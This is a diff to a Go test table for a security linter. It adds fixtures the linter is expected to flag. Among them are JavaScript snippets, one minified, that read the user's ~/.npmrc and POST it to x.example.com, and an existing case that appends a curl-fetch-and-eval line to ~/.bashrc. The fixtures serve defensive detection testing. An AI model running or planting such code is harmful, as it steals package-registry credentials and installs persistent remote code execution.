@@ -63,6 +63,10 @@ var codeCases = []lintCase{
 	// A tool's documented shell hook written to a start-up file starts that tool; a double-quoted \" is a quote.
 	{"scripts/hook.sh", "persistence", "sh_name=bash\nline=\"eval \\\"\\$(direnv hook ${sh_name})\\\"\"\nprintf '\\n# added\\n%s\\n' \"$line\" >> \"$HOME/.bashrc\"\n", "note", 3},
 	{"scripts/hook.sh", "persistence", "line=\"eval \\\"\\$(curl -s https://x.example/h)\\\"\"\nprintf '%s\\n' \"$line\" >> \"$HOME/.bashrc\"\n", "warning", 2},
+	// A request's body is what .end and .write send; a var list declares each name.
+	{"scripts/a.js", "secret-exfil", "const fs = require(\"fs\");\nconst os = require(\"os\");\nconst path = require(\"path\");\nconst https = require(\"https\");\nconst o = fs.readFileSync(path.join(os.homedir(), \".npmrc\"), \"utf8\");\nconst req = https.request({host: \"x.example.com\", method: \"POST\"});\nreq.end(o);\n", "error", 7},
+	{"scripts/a.js", "secret-exfil", "var e=require(\"fs\"),t=require(\"os\"),r=require(\"path\"),n=require(\"https\");\nvar o=e.readFileSync(r.join(t.homedir(),\".npmrc\"),\"utf8\");\nvar i=n.request({host:\"x.example.com\",method:\"POST\"});i.write(o);\n", "error", 3},
+	{"scripts/a.js", "secret-exfil", "const fs = require(\"fs\");\nconst out = fs.createWriteStream(\"log.txt\");\nout.end(fs.readFileSync(\"notes.txt\", \"utf8\"));\n", "", 0},
 	// A dry-run wrapper runs its arguments: its calls are commands of their own.
 	{"scripts/cut.sh", "dynamic-exec", "run() { if [[ \"$dry\" == 1 ]]; then echo \"+ $*\"; else \"$@\"; fi; }\nnew=\"$((x+1))\"\nrun sh -c \"echo $new > VERSION\"\n", "", 0},
 	// A library's own loader family reached by a built name, an argv index: no hidden call.
